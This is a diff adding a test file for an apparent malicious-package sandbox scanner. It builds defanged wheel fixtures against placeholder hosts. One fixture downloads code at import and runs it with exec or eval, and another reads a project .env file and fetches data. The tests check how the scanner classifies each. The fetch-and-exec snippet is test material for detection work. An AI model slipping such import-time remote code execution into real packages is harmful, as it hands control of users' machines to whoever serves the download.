@@ -1,0 +1,101 @@
+"""The bait second stage in the real sandbox: every request the sinkhole answers gets a
+Python/sh polyglot that only looks for a random per-run path. A downloader that runs
+its answer (``exec``/``eval`` of an HTTPS download, an ordinary-looking URL the
+accounting would call plain) is caught by PS013; a library that reads the project's
+``.env`` and downloads a data file at import, and never runs the answer, is clean.
+
+Fixtures are defanged replicas built here: ``*.example``/``*.invalid`` names only, run
+only inside the sandbox, randomised (names, paths, the way the answer is run).
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import textwrap
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sandbox.models import Phase, Report, Severity, Verdict
+from tests.conftest import run_cli
+from tests.fixtures.builders import Randomised, build_wheel
+
+pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")
+
+WORDS = ["cdn", "api", "data", "updates", "static", "assets", "files", "mirror"]
+
+
+def _host(r: Randomised) -> str:
+    tld = r.rng.choice(["example", "invalid"])
+    return f"{r.rng.choice(WORDS)}.{r.rng.choice(WORDS)}{r.rng.randrange(10)}.{tld}"
+
+
+def _vet(tmp_path: Path, name: str, src: str) -> tuple[Report, dict[str, Any]]:
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
+    _code, report = run_cli(tmp_path, str(whl))
+    assert report is not None
+    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
+    m = re.search(r"FACTS (\{.*\})", imp.output_tail)
+    assert m, imp.output_tail
+    return report, json.loads(m.group(1))
+
+
+def test_a_downloader_that_runs_its_answer_is_malicious(tmp_path: Path) -> None:
+    r = Randomised()
+    host = _host(r)
+    url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['update.txt', 'latest', 'config'])}"
+    run = r.rng.choice(["exec(code, {})", "eval(code.decode())"])
+    src = textwrap.dedent(f"""\
+        import json, urllib.request
+        facts = {{}}
+        try:
+            code = urllib.request.urlopen({url!r}, timeout=10).read()
+            facts["bytes"] = len(code)
+            {run}
+            facts["ran"] = True
+        except Exception as exc:
+            facts["ran"] = repr(exc)
+        print("FACTS " + json.dumps(facts))
+        """)
+    report, facts = _vet(tmp_path, r.name("dl"), src)
+    assert facts["ran"] is True and facts["bytes"] > 0, facts
+    net = report.network
+    assert net is not None and net.stage.startswith("/var/tmp/.")
+    conn = next(c for c in net.connections if c.host == host)
+    assert conn.http and conn.http[0].staged
+    ps013 = next(f for f in report.findings if f.rule_id == "PS013")
+    assert ps013.severity is Severity.HIGH and ps013.phase is Phase.IMPORT
+    assert any(e.path == net.stage for e in ps013.evidence)
+    assert report.verdict is Verdict.MALICIOUS
+
+
+def test_a_library_reading_env_and_downloading_data_is_clean(tmp_path: Path) -> None:
+    r = Randomised()
+    host = _host(r)
+    url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['prices.json', 'models.json', 'index.json'])}"
+    src = textwrap.dedent(f"""\
+        import json, os, urllib.request
+        facts = {{}}
+        try:  # what python-dotenv's load_dotenv() does from the working directory
+            facts["env"] = len(open(os.path.expanduser("~/project/.env")).read())
+        except OSError as exc:
+            facts["env"] = repr(exc)
+        try:
+            data = urllib.request.urlopen({url!r}, timeout=10).read()
+            facts["bytes"] = len(data)
+            json.loads(data)
+        except Exception as exc:
+            facts["parsed"] = type(exc).__name__
+        print("FACTS " + json.dumps(facts))
+        """)
+    report, facts = _vet(tmp_path, r.name("lib"), src)
+    assert isinstance(facts["env"], int) and facts["bytes"] > 0, facts
+    net = report.network
+    assert net is not None and net.stage
+    assert any(c.host == host and c.http and c.http[0].staged for c in net.connections)
+    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.IMPORT}
+    assert sev.get("PS002") is Severity.LOW and sev.get("PS012") is Severity.LOW, sev
+    assert "PS013" not in sev
+    assert report.verdict is Verdict.CLEAN, [(f.rule_id, f.severity, f.message) for f in report.findings]
